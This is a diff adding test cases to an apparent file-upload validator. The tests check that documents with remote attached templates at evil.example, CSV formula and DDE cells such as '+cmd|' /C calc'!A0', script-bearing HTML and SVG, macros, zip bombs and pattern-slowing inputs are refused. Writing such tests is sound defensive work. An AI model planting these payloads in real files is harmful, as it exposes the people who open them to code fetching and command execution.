@@ -61,9 +61,23 @@ def test_each_kind_is_taken_as_it_is():
     ]
 
 
+def test_what_holds_nothing_wrong_is_read_once_however_it_repeats():
+    for relations in (
+        ENDLESS_TEMPLATE,
+        '<R Type="http://x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>',
+    ):
+        content = made("docx", {SETTINGS: relations})
+        assert examined("minutes.docx", content).content == content
+
+
 HTML = b"<!doctype html><script>alert(document.domain)</script>"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
 TEMPLATE = '<R Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
+SETTINGS = "word/_rels/settings.xml.rels"
+# What a pattern that goes back over it would look at for minutes, with every reader waiting.
+ENDLESS_TEMPLATE = "attachedTemplate" * 65_000
+ENDLESS_CELL = b"+" + b" " * 130_000 + b"x"
+PAST = "".join(f"<R Id='{number}'/>" for number in range(70_000))
 MACRO = made("docx", {"word/vbaProject.bin": "Sub AutoOpen()"})
 REFUSED = {
     "HTML called PDF": ("report.pdf", HTML),
@@ -93,6 +107,27 @@ REFUSED = {
         "minutes.docx",
         made("docx", {"word/_rels/settings.xml.rels": TEMPLATE}),
     ),
+    "a template whose address comes first": (
+        "minutes.docx",
+        made(
+            "docx",
+            {
+                SETTINGS: "<R Target = 'HTTPS://evil.example/a.dotm'\nType='http://x/attachedTemplate'/>",
+            },
+        ),
+    ),
+    "a template of another machine": (
+        "minutes.docx",
+        made(
+            "docx",
+            {SETTINGS: '<R Type="http://x/attachedTemplate" Target="file://evil.example/a.dotm"/>'},
+        ),
+    ),
+    "a template that is spelled otherwise": (
+        "minutes.docx",
+        made("docx", {SETTINGS: TEMPLATE.replace("https", "&#104;ttps")}),
+    ),
+    "a template past what is read": ("minutes.docx", made("docx", {SETTINGS: PAST + TEMPLATE})),
     "an object within": ("minutes.docx", made("docx", {"word/embeddings/oleObject1.bin": "MZ"})),
     "controls within": ("minutes.docx", made("docx", {"word/activeX/activeX1.xml": "x"})),
     "a bomb": ("minutes.docx", made("docx", {"word/media/1.png": "0" * 30_000_000})),
@@ -109,6 +144,8 @@ REFUSED = {
     "a formula": ("counts.csv", b'ward,lamps\r\n=HYPERLINK("http://x"),2\r\n'),
     "a formula behind a sign": ("counts.csv", b"a\r\n+cmd|' /C calc'!A0\r\n"),
     "a formula behind a space": ("counts.csv", b'a\r\n" @SUM(1)"\r\n'),
+    "a formula in wide letters": ("counts.csv", "a\r\n\uff1d1+1\r\n".encode()),
+    "a formula behind very many spaces": ("counts.csv", b"a\r\n" + ENDLESS_CELL + b"\r\n"),
     "text that is none": ("note.txt", b"\x00\x01\x02"),
     "text in another code": ("note.txt", "Ŵaterside".encode("utf-16")),
     "control characters": ("note.txt", b"lamps\x1b[2J"),
